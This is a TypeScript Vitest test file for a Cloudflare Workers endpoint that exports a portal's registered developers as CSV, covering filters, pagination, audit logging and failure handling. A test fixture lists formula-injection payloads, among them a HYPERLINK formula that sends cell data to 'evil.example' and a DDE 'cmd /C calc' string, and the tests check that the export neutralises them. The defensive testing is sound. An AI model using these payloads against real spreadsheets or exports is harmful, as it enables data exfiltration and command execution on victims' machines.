import { env } from 'cloudflare:workers'
import Papa from 'papaparse'
import { beforeAll, expect, test } from 'vitest'
import type { RegistrationField } from '../../worker/contract/registration-form.ts'
import { acme, consoleOf, globex, openWorld, portalIdOf, startOfTime, type Visitor } from '../world.ts'

const world = openWorld()
let console: Visitor
let acmeId: string
let globexId: string

const form: RegistrationField[] = [
  { id: 'company', label: 'Company', help: '', is_required: true, kind: 'text' },
  { id: 'plan', label: '=Plan, "really"', help: '', is_required: false, kind: 'long_text' },
  { id: 'calls', label: 'Calls a day', help: '', is_required: false, kind: 'number' },
  { id: 'agreed', label: 'Agreed', help: '', is_required: false, kind: 'checkbox' },
]

const hostileCells = [
  '=HYPERLINK("http://evil.example?x="&A1,"Click")',
  '+1+1',
  '-2+3+cmd|" /C calc"!A0',
  '@SUM(1+1)',
  '=1+1\nand a second line',
  ' =1+1',
  '\t=1+1',
  '＝1+1',
  'Quote " comma , newline \n end',
]

beforeAll(async () => {
  console = await consoleOf(world)
  acmeId = await portalIdOf(console, acme)
  globexId = await portalIdOf(console, globex)
  await env.DB.prepare('UPDATE portals SET registration_form = ? WHERE id = ?').bind(JSON.stringify(form), acmeId).run()
  const add = (portalId: string, people: { name: string; email: string; status: string; answers?: unknown }[]) =>
    env.DB.prepare(
      `INSERT INTO developers
         (id, portal_id, email, email_key, full_name, status, answers, created_at, updated_at, signed_up_at)
       SELECT printf('019ca000-%04x-7000-8000-%012x', key / 100, key), ?1, value ->> 'email', value ->> 'email',
         value ->> 'name', value ->> 'status', coalesce(value -> 'answers', '[]'), ?2 + key, ?2 + key, ?2 FROM json_each(?3)`,
    )
      .bind(portalId, startOfTime, JSON.stringify(people))
      .run()
  const many = Array.from({ length: 2345 }, (_, i) => ({
    name: i % 5 === 0 ? `Li ${i}` : `Many ${i}`,
    email: i % 5 === 1 ? `li${i}@example.com` : `many${i}@example.com`,
    status: i % 3 === 0 ? 'pending' : 'approved',
  }))
  const hostile = hostileCells.map((cell, i) => ({
    name: cell.split('\n')[0] ?? '',
    email: `${i === 0 ? '=' : ''}hostile${i}@example.com`,
    status: 'rejected',
    answers: [
      { field_id: 'company', label: 'Old label', value: cell },
      { field_id: 'plan', label: 'Plan', value: 'Ünïcödé 山田' },
      { field_id: 'calls', label: 'Calls', value: -5 },
      { field_id: 'agreed', label: 'Agreed', value: true },
      { field_id: 'gone', label: 'Gone', value: 'no longer asked' },
    ],
  }))
  await add(acmeId, [...many, ...hostile])
})

const exportOf = (query: Record<string, string> = {}, portalId = acmeId) =>
  console.get(`/v3/portals/${portalId}/developers/export?${new URLSearchParams(query)}`)

async function rowsOf(query: Record<string, string>): Promise<Record<string, string>[]> {
  const response = await exportOf(query)
  expect(response.status).toBe(200)
  const text = new TextDecoder('utf-8', { ignoreBOM: true }).decode(await response.arrayBuffer())
  expect(text.startsWith('\ufeff"id","email","full_name","status","created_at","updated_at","Company",')).toBe(true)
  expect(text.endsWith('\r\n')).toBe(true)
  const { data, errors } = Papa.parse<Record<string, string>>(text.slice(1), { header: true, skipEmptyLines: true })
  expect(errors).toEqual([])
  return data
}

test('is a CSV file with a sensible name, for nobody to keep', async () => {
  const response = await exportOf({ 'filter[status][eq]': 'rejected' })
  expect(response.headers.get('Content-Type')).toBe('text/csv; charset=utf-8')
  expect(response.headers.get('Content-Disposition')).toBe(
    'attachment; filename="acme-rejected-developers-2026-03-01.csv"',
  )
  expect(response.headers.get('Cache-Control')).toBe('no-store')
  await response.text()
})

test('holds everybody once, over several pages, the newest first', async () => {
  const rows = await rowsOf({})
  expect(rows).toHaveLength(2345 + hostileCells.length)
  const ids = rows.map(({ id }) => id)
  expect(new Set(ids).size).toBe(rows.length)
  expect(ids).toEqual([...ids].sort().reverse())
})

test('keeps the filter of the list', async () => {
  expect(await rowsOf({ 'filter[status][eq]': 'pending' })).toHaveLength(782)
  expect(await rowsOf({ 'filter[search][contains]': 'many 12' })).toHaveLength(89)
  const beginning = await rowsOf({ 'filter[search][contains]': 'li' })
  expect(beginning).toHaveLength(469 * 2)
  expect(new Set(beginning.map(({ id }) => id)).size).toBe(beginning.length)
  const both = { 'filter[search][contains]': 'li', 'filter[status][eq]': 'pending' }
  expect((await rowsOf(both)).every(({ status }) => status === 'pending')).toBe(true)
  expect(await rowsOf({ 'filter[search][contains]': 'nobody' })).toEqual([])
  expect((await exportOf({ 'filter[search][contains]': '' })).status).toBe(400)
  expect((await exportOf({ sort: 'email' })).status).toBe(400)
})

test('tells the answers to the portal’s own fields, and no cell is a formula', async () => {
  const response = await exportOf({ 'filter[status][eq]': 'rejected' })
  const text = await response.text()
  const { data } = Papa.parse<string[]>(text.replace('\ufeff', ''), { skipEmptyLines: true })
  const [head, ...rows] = data
  expect(head?.slice(6)).toEqual(['Company', `'=Plan, "really"`, 'Calls a day', 'Agreed'])
  const companies = rows.map((row) => row[6]).reverse()
  expect(companies).toEqual([...hostileCells.slice(0, -1).map((cell) => `'${cell}`), hostileCells.at(-1)])
  expect(rows.at(-1)?.slice(7)).toEqual(['Ünïcödé 山田', '-5', 'true'])
  expect(rows.at(-1)?.[1]).toBe("'=hostile0@example.com")
  const numbers = /^-?\d+$/
  for (const cell of data.flat()) expect(numbers.test(cell) || !/^\s*[=+\-@＝]/.test(cell), cell).toBe(true)
  expect(text.replaceAll('\r\n', '').includes('\r')).toBe(false)
})

test('is noted before the first byte, without what was searched', async () => {
  const count = async () => {
    const { results } = await env.DB.prepare(
      "SELECT * FROM events WHERE action = 'export_developers' ORDER BY id",
    ).all()
    return results
  }
  const before = (await count()).length
  const response = await exportOf({ 'filter[status][eq]': 'approved', 'filter[email][contains]': 'many7@example.com' })
  const events = await count()
  expect(events).toHaveLength(before + 1)
  expect(events.at(-1)).toMatchObject({ portal_id: acmeId, actor: 'admin', developer_id: null })
  expect(JSON.parse(String(events.at(-1)?.details))).toEqual({ status: 'approved', searched: ['email'] })
  expect(JSON.stringify(events)).not.toContain('many7@example.com')
  await response.text()
})

test('of another portal holds only that portal’s developers and fields', async () => {
  const text = await (await exportOf({}, globexId)).text()
  expect(text).not.toContain('many1@example.com')
  expect(text.split('\r\n')[0]).not.toContain('Company')
})

test('breaks where the database fails: a short file is never taken for all', async () => {
  let reads = 0
  const failing = new Proxy(env.DB, {
    get(target, name) {
      if (name === 'prepare') {
        return (query: string) => {
          if (query.includes('FROM developers d')) reads += 1
          return target.prepare(reads === 2 ? 'SELECT * FROM no_such_table WHERE ? + ? + ? + ?' : query)
        }
      }
      if (name === 'batch') return (statements: D1PreparedStatement[]) => target.batch(statements)
      return Reflect.get(target, name)
    },
  })
  const visitor = await consoleOf(openWorld({ ...env, DB: failing }))
  const logged: string[] = []
  const silenced = globalThis.console.error
  globalThis.console.error = (line: string) => void logged.push(line)
  try {
    const response = await visitor.get(`/v3/portals/${acmeId}/developers/export`)
    expect(response.status).toBe(200)
    await expect(response.text()).rejects.toThrow()
  } finally {
    globalThis.console.error = silenced
  }
  expect(logged).toHaveLength(1)
  expect(logged[0]).toContain('a request failed')
})

test('that nobody waits for any more reads no further', async () => {
  let reads = 0
  const counted = new Proxy(env.DB, {
    get(target, name) {
      if (name === 'prepare') {
        return (query: string) => {
          if (query.includes('FROM developers d')) reads += 1
          return target.prepare(query)
        }
      }
      if (name === 'batch') return (statements: D1PreparedStatement[]) => target.batch(statements)
      return Reflect.get(target, name)
    },
  })
  const visitor = await consoleOf(openWorld({ ...env, DB: counted }))
  const response = await visitor.get(`/v3/portals/${acmeId}/developers/export`)
  expect(reads).toBe(0)
  const reader = response.body?.getReader()
  await reader?.read()
  await reader?.read()
  await reader?.cancel()
  expect(reads).toBe(1)
})
